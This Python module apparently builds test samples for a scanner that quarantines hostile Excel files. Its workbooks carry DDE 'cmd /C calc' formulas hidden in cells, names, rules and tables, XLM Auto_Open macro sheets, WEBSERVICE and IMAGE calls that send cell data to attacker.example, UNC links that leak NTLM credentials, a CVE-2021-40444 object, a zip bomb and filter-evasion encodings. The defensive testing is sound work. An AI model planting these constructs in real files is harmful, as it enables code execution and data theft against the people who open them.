"""Hostile Excel workbooks (ECMA-376 Part 1 §18): DDE and dangerous formulas wherever a formula lives,
XLM macro sheets, external links, connections, macros on shapes and controls."""

from __future__ import annotations

import html
import re
from pathlib import Path

from tests import office_builders as base
from tests.attacks.builders import Expect, sample
from tests.attacks.builders.ooxml_parts import (
    MHTML,
    MS_RT,
    RT,
    SHEET,
    add_part,
    with_customui,
)


def _xlsx(formula_cell: str | None = None, workbook_extra: str = "", sheet_extra: str = "") -> base.Package:
    package = base.Package(base.xlsx_bytes())
    if formula_cell is not None:
        package.put(
            SHEET, package.text(SHEET).replace('<c r="B4"><f>SUM(B2:B3)</f><v></v></c>', formula_cell)
        )
    if workbook_extra:
        package.put(
            "xl/workbook.xml", package.text("xl/workbook.xml").replace("<definedNames/>", workbook_extra)
        )
    if sheet_extra:
        package.put(SHEET, package.text(SHEET).replace("<pageMargins", sheet_extra + "<pageMargins"))
    return package


@sample("xlsx_benign", ".xlsx", "control", "openpyxl workbook with values and SUM", Expect.RELEASED)
def xlsx_benign(work: Path) -> bytes:
    return base.xlsx_bytes()


@sample(
    "xlsx_formula_text_is_not_live",
    ".xlsx",
    "control",
    "SpreadsheetML §18.3.1.4: a string cell is text, not a formula",
    Expect.RELEASED,
)
def xlsx_formula_text_is_not_live(work: Path) -> bytes:
    return _xlsx('<c r="B4" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>').bytes()


def _formula_sample(name: str, formula_xml: str, note: str, attack: str = "dde-formula") -> None:
    @sample(name, ".xlsx", attack, note)
    def build(work: Path) -> bytes:
        return _xlsx(f'<c r="B4">{formula_xml}<v>0</v></c>').bytes()


_formula_sample(
    "xlsx_dde_formula", "<f>cmd|' /C calc'!A0</f>", "OWASP CSV/Formula Injection; DDE in a cell formula"
)

_formula_sample("xlsx_dde_charref_pipe", "<f>cmd&#124;' /C calc'!A0</f>", "XML §4.1: &#124; is '|'")

_formula_sample(
    "xlsx_dde_hex_charref",
    "<f>MSEXCEL&#x7C;'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f>",
    "XML §4.1 hex reference; MSEXCEL| DDE variant (2018 write-ups)",
)

_formula_sample("xlsx_dde_in_expression", "<f>-2+3+cmd|' /C calc'!A0</f>", "OWASP: DDE behind arithmetic")

_formula_sample(
    "xlsx_dde_shared",
    '<f t="shared" ref="B4:B6" si="0">cmd|\' /C calc\'!A0</f>',
    "§18.3.1.40 shared formula master cell",
)

_formula_sample("xlsx_dde_array", '<f t="array" ref="B4">cmd|\' /C calc\'!A0</f>', "§18.3.1.40 array formula")

_formula_sample(
    "xlsx_webservice",
    '<f>WEBSERVICE("http://attacker.example/?"&amp;A2)</f>',
    "Excel WEBSERVICE exfiltration (NotSoSecure 2018)",
    "dangerous-function",
)

_formula_sample(
    "xlsx_call_winexec",
    '<f>CALL("Kernel32","WinExec","JCJ","calc",0)</f>',
    "XLM CALL via a cell (Outflank 'Excel 4.0 macros' 2018)",
    "dangerous-function",
)

_formula_sample(
    "xlsx_register",
    '<f>REGISTER("Kernel32","WinExec","JCJ","Run")</f>',
    "XLM REGISTER (Outflank 2018)",
    "dangerous-function",
)

_formula_sample(
    "xlsx_rtd", '<f>RTD("attacker.progid",,"x")</f>', "RTD real-time data COM server", "dangerous-function"
)

_formula_sample(
    "xlsx_hyperlink_function_file",
    '<f>HYPERLINK("file:///C:/Windows/System32/calc.exe","開く")</f>',
    "HYPERLINK() to file:",
    "dangerous-function",
)

_formula_sample(
    "xlsx_external_ref_unc",
    "<f>'\\\\attacker.example\\share\\[book.xlsx]Sheet1'!A1</f>",
    "§18.17.2.3 external reference in a formula (NTLM leak)",
    "external-workbook",
)

_formula_sample(
    "xlsx_external_index_ref",
    "<f>[1]Sheet1!A1</f>",
    "§18.17.2.3 external reference by link index",
    "external-workbook",
)

_formula_sample(
    "xlsx_xlfn_prefix_webservice",
    '<f>_xlfn.WEBSERVICE("http://attacker.example/")</f>',
    "[MS-XLSX] _xlfn. future-function prefix",
    "dangerous-function",
)


@sample("xlsx_dde_defined_name", ".xlsx", "dde-formula", "§18.2.5 definedName whose formula is DDE")
def xlsx_dde_defined_name(work: Path) -> bytes:
    names = "<definedNames><definedName name=\"Payload\">cmd|' /C calc'!A0</definedName></definedNames>"
    return _xlsx('<c r="B4"><f>Payload</f><v>0</v></c>', names).bytes()


@sample("xlsx_dde_conditional_format", ".xlsx", "dde-formula", "§18.3.1.10 cfRule expression formula")
def xlsx_dde_conditional_format(work: Path) -> bytes:
    rule = (
        '<conditionalFormatting sqref="A1:B4"><cfRule type="expression" priority="1">'
        "<formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting>"
    )
    return _xlsx(sheet_extra=rule).bytes()


@sample("xlsx_dde_data_validation", ".xlsx", "dde-formula", "§18.3.1.32 dataValidation formula1")
def xlsx_dde_data_validation(work: Path) -> bytes:
    rule = (
        '<dataValidations count="1"><dataValidation type="custom" sqref="A2">'
        "<formula1>cmd|' /C calc'!A0</formula1></dataValidation></dataValidations>"
    )
    return _xlsx(sheet_extra=rule).bytes()


@sample(
    "xlsx_strict_dde",
    ".xlsx",
    "dde-formula",
    "ISO/IEC 29500 Strict namespaces (purl.oclc.org) with a DDE formula",
)
def xlsx_strict_dde(work: Path) -> bytes:
    package = base.Package(base.xlsx_bytes())
    for name in list(package.parts):
        if name.endswith((".xml", ".rels")):
            text = package.text(name)
            text = text.replace(
                "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                "http://purl.oclc.org/ooxml/spreadsheetml/main",
            )
            text = text.replace(
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                "http://purl.oclc.org/ooxml/officeDocument/relationships",
            )
            package.put(name, text)
    package.put(
        SHEET, package.text(SHEET).replace("<f>SUM(B2:B3)</f><v></v>", "<f>cmd|' /C calc'!A0</f><v>0</v>")
    )
    return package.bytes()


@sample(
    "xlsx_xlm_macro_sheet", ".xlsx", "xlm-macro", "[MS-XLSX] macrosheet part + Auto_Open name (Outflank 2018)"
)
def xlsx_xlm_macro_sheet(work: Path) -> bytes:
    return _macro_sheet("application/vnd.ms-excel.macrosheet+xml", MS_RT + "xlMacrosheet", "veryHidden")


@sample(
    "xlsx_xlm_intl_macro_sheet", ".xlsx", "xlm-macro", "[MS-XLSX] international macrosheet (xlIntlMacrosheet)"
)
def xlsx_xlm_intl_macro_sheet(work: Path) -> bytes:
    return _macro_sheet("application/vnd.ms-excel.intlmacrosheet+xml", MS_RT + "xlIntlMacrosheet", "hidden")


def _macro_sheet(content_type: str, rel_type: str, state: str) -> bytes:
    package = base.Package(base.xlsx_bytes())
    package.put(
        "xl/macrosheets/sheet2.xml",
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
        '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
        "</xm:macrosheet>",
    )
    package.content_type("/xl/macrosheets/sheet2.xml", content_type)
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdMacro", rel_type, "macrosheets/sheet2.xml")
    workbook = package.text("xl/workbook.xml")
    workbook = workbook.replace(
        "</sheets>",
        f'<sheet xmlns:r="{RT[:-1]}" name="Macro1" sheetId="2" state="{state}" r:id="rIdMacro"/></sheets>',
    )
    workbook = workbook.replace(
        "<definedNames/>",
        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
    )
    package.put("xl/workbook.xml", workbook)
    return package.bytes()


@sample("xlsx_auto_open_name_exec", ".xlsx", "xlm-macro", "Auto_Open defined name running EXEC directly")
def xlsx_auto_open_name_exec(work: Path) -> bytes:
    names = '<definedNames><definedName name="Auto_Open">EXEC("calc.exe")</definedName></definedNames>'
    return _xlsx(workbook_extra=names).bytes()


def _external_link(body: str, target: str) -> bytes:
    package = base.Package(base.xlsx_bytes())
    package.put(
        "xl/externalLinks/externalLink1.xml",
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{RT[:-1]}">{body}</externalLink>',
    )
    package.content_type(
        "/xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    package.add_rel(
        "xl/_rels/workbook.xml.rels", "rIdExt", RT + "externalLink", "externalLinks/externalLink1.xml"
    )
    if target:
        package.add_rel(
            "xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", RT + "externalLinkPath", target, True
        )
    workbook = package.text("xl/workbook.xml").replace(
        "<definedNames/>",
        f'<externalReferences><externalReference xmlns:r="{RT[:-1]}" r:id="rIdExt"/></externalReferences>',
    )
    package.put("xl/workbook.xml", workbook)
    package.put(SHEET, package.text(SHEET).replace("<f>SUM(B2:B3)</f><v></v>", "<f>[1]Sheet1!A1</f><v>0</v>"))
    return package.bytes()


@sample(
    "xlsx_external_workbook_link", ".xlsx", "external-workbook", "§18.14 externalLink part to a UNC workbook"
)
def xlsx_external_workbook_link(work: Path) -> bytes:
    return _external_link(
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>',
        "file:///\\\\attacker.example\\share\\book.xlsx",
    )


@sample(
    "xlsx_dde_link_part",
    ".xlsx",
    "dde-formula",
    "§18.14.4 ddeLink: DDE stored as an external link (cmd /c calc)",
)
def xlsx_dde_link_part(work: Path) -> bytes:
    return _external_link(
        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>',
        "",
    )


@sample(
    "xlsx_web_query_connection",
    ".xlsx",
    "external-relationship",
    "§18.13 connections.xml web query + queryTable",
)
def xlsx_web_query_connection(work: Path) -> bytes:
    package = base.Package(base.xlsx_bytes())
    package.put(
        "xl/connections.xml",
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/data.iqy"/>'
        "</connection></connections>",
    )
    package.content_type(
        "/xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    )
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdConn", RT + "connections", "connections.xml")
    return package.bytes()


@sample("xlsm_vba", ".xlsm", "macros", "Excel-written macro workbook (xlwings quickstart.xlsm, real VBA)")
def xlsm_vba(work: Path) -> bytes:
    return base.xlwings_file("quickstart.xlsm")


@sample(
    "xlsx_oleobject_mhtml",
    ".xlsx",
    "external-relationship",
    "CVE-2021-40444 delivered through a worksheet oleObject",
)
def xlsx_oleobject_mhtml(work: Path) -> bytes:
    package = _xlsx(
        sheet_extra=f'<oleObjects><oleObject xmlns:r="{RT[:-1]}" progId="htmlfile" shapeId="1025" r:id="rIdOle"/></oleObjects>'
    )
    package.add_rel(
        "xl/worksheets/_rels/sheet1.xml.rels", "rIdOle", RT + "oleObject", html.escape(MHTML), True
    )
    return package.bytes()


@sample("xlsx_customui_onload", ".xlsx", "customui", "[MS-CUSTOMUI] onLoad callback in a workbook")
def xlsx_customui_onload(work: Path) -> bytes:
    return with_customui(base.Package(base.xlsx_bytes()))


@sample(
    "xlsx_table_calculated_column_dde",
    ".xlsx",
    "dde-formula",
    "§18.5.1.1 table calculatedColumnFormula with DDE",
)
def xlsx_table_calculated_column_dde(work: Path) -> bytes:
    package = _xlsx(
        sheet_extra=f'<tableParts count="1"><tablePart xmlns:r="{RT[:-1]}" r:id="rIdTbl"/></tableParts>'
    )
    table = (
        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T1" displayName="T1" '
        'ref="A1:B3"><tableColumns count="2"><tableColumn id="1" name="品目"/><tableColumn id="2" name="金額">'
        "<calculatedColumnFormula>cmd|' /C calc'!A0</calculatedColumnFormula></tableColumn></tableColumns></table>"
    )
    add_part(
        package,
        "xl/tables/table1.xml",
        table,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
        "xl/worksheets/_rels/sheet1.xml.rels",
        "rIdTbl",
        RT + "table",
    )
    return package.bytes()


@sample("xlsx_hyperlink_rel_file", ".xlsx", "external-relationship", "§18.3.1.47 sheet hyperlink to file:")
def xlsx_hyperlink_rel_file(work: Path) -> bytes:
    package = _xlsx(
        sheet_extra=f'<hyperlinks><hyperlink xmlns:r="{RT[:-1]}" ref="A2" r:id="rIdLink"/></hyperlinks>'
    )
    package.add_rel(
        "xl/worksheets/_rels/sheet1.xml.rels",
        "rIdLink",
        RT + "hyperlink",
        "file:///C:/Windows/System32/calc.exe",
        True,
    )
    return package.bytes()


@sample(
    "xlsx_chart_external_data",
    ".xlsx",
    "external-workbook",
    "§21.2.2.63 chart externalData + c:f into another workbook",
)
def xlsx_chart_external_data(work: Path) -> bytes:
    import io

    import openpyxl
    from openpyxl.chart import BarChart, Reference

    book = openpyxl.Workbook()
    sheet = book.active
    for row in (("a", 1), ("b", 2)):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=2))
    sheet.add_chart(chart, "D2")
    buffer = io.BytesIO()
    book.save(buffer)
    package = base.Package(buffer.getvalue())
    name = next(n for n in package.parts if n.startswith("xl/charts/chart") and n.endswith(".xml"))
    text = re.sub(r"<c:f>[^<]*</c:f>", "<c:f>[1]Sheet1!$B$1:$B$2</c:f>", package.text(name))
    text = text.replace(
        "</c:chartSpace>", f'<c:externalData xmlns:r="{RT[:-1]}" r:id="rIdExt"/></c:chartSpace>'
    )
    package.put(name, text)
    rels = name.replace("charts/", "charts/_rels/") + ".rels"
    package.add_rel(rels, "rIdExt", RT + "package", "\\\\attacker.example\\share\\book.xlsx", True)
    return package.bytes()


@sample(
    "xlsx_power_query_mashup",
    ".xlsx",
    "external-relationship",
    "Power Query DataMashup in customXml + refresh-on-open connection (Mimecast 2019)",
)
def xlsx_power_query_mashup(work: Path) -> bytes:
    package = base.Package(xlsx_web_query_connection(work))
    package.put(
        "customXml/item9.xml",
        '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQAAgAIAA==</DataMashup>',
    )
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdMash", RT + "customXml", "../customXml/item9.xml")
    return package.bytes()


def _xlsx_with_drawing(shape: str) -> base.Package:
    package = _xlsx(sheet_extra=f'<drawing xmlns:r="{RT[:-1]}" r:id="rIdDr"/>')
    drawing = (
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:oneCellAnchor><xdr:from><xdr:col>3</xdr:col>'
        "<xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
        f'<xdr:ext cx="900000" cy="300000"/>{shape}<xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>'
    )
    add_part(
        package,
        "xl/drawings/drawing1.xml",
        drawing,
        "application/vnd.openxmlformats-officedocument.drawing+xml",
        "xl/worksheets/_rels/sheet1.xml.rels",
        "rIdDr",
        RT + "drawing",
    )
    return package


@sample(
    "xlsx_shape_assigned_macro",
    ".xlsx",
    "macros",
    "§20.5.2.29 xdr:sp/@macro: a button that opens a macro workbook on a share and runs its macro",
)
def xlsx_shape_assigned_macro(work: Path) -> bytes:
    shape = (
        '<xdr:sp macro="\'\\\\attacker.example\\share\\[tools.xlsm]\'!Auto_Open"><xdr:nvSpPr><xdr:cNvPr id="2" name="Button 1"/><xdr:cNvSpPr/></xdr:nvSpPr>'
        '<xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:sp>'
    )
    return _xlsx_with_drawing(shape).bytes()


@sample(
    "xlsx_form_control_macro",
    ".xlsx",
    "macros",
    "[MS-XLSX] ctrlProps formControlPr/@fmlaMacro on a form button",
)
def xlsx_form_control_macro(work: Path) -> bytes:
    package = _xlsx(
        sheet_extra=f'<controls><control xmlns:r="{RT[:-1]}" shapeId="1025" r:id="rIdCtl" name="Button 1"/></controls>'
    )
    control = (
        '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" '
        'fmlaMacro="[0]!Auto_Open" lockText="1"/>'
    )
    add_part(
        package,
        "xl/ctrlProps/ctrlProp1.xml",
        control,
        "application/vnd.ms-excel.controlproperties+xml",
        "xl/worksheets/_rels/sheet1.xml.rels",
        "rIdCtl",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/ctrlProp",
    )
    return package.bytes()


@sample("xlam_addin_vba", ".xlam", "macros", "Excel add-in (.xlam): a workbook whose only purpose is its VBA")
def xlam_addin_vba(work: Path) -> bytes:
    package = base.Package(base.xlwings_file("quickstart.xlsm"))
    package.main_type(
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.addin.macroEnabled.main+xml",
    )
    return package.bytes()


@sample(
    "xll_addin_dll",
    ".xll",
    "macros",
    "XLL add-in: a DLL Excel loads and runs (2021-22 XLL droppers)",
    Expect.QUARANTINED,
)
def xll_addin_dll(work: Path) -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\x00" * 46
        + b"\x80\x00\x00\x00"
        + b"\x00" * 64
        + b"PE\x00\x00"
    )


_formula_sample(
    "xlsx_image_function_exfil",
    '<f>_xlfn.IMAGE("https://attacker.example/p.png?d="&amp;A2&amp;B2)</f>',
    "Excel IMAGE(): fetching a URL built from cell values sends them out",
    "dangerous-function",
)


@sample(
    "xlsx_shared_strings_bomb",
    ".xlsx",
    "bomb",
    "a 96 MiB sharedStrings part deflated ~1000:1 inside the package",
)
def xlsx_shared_strings_bomb(work: Path) -> bytes:
    import io
    import zipfile

    package = base.Package(base.xlsx_bytes())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in package.parts.items():
            archive.writestr(name, data)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            block = b"<si><t>a</t></si>" * (1 << 16)
            for _ in range(96 * (1 << 20) // len(block)):
                part.write(block)
            part.write(b"</sst>")
    return out.getvalue()


@sample(
    "xlsx_utf16_sheet_dde",
    ".xlsx",
    "dde-formula",
    "OPC §8.1.4: a UTF-16 worksheet part holding a DDE formula",
)
def xlsx_utf16_sheet_dde(work: Path) -> bytes:
    package = _xlsx("<c r=\"B4\"><f>cmd|' /C calc'!A0</f><v>0</v></c>")
    package.put(SHEET, ('<?xml version="1.0" encoding="UTF-16"?>' + package.text(SHEET)).encode("utf-16"))
    return package.bytes()


@sample("xlsx_formula_comment_split", ".xlsx", "dde-formula", "XML 1.0 §2.5: a comment between 'cmd' and '|'")
def xlsx_formula_comment_split(work: Path) -> bytes:
    return _xlsx("<c r=\"B4\"><f>cmd<!-- -->|' /C calc'!A0</f><v>0</v></c>").bytes()
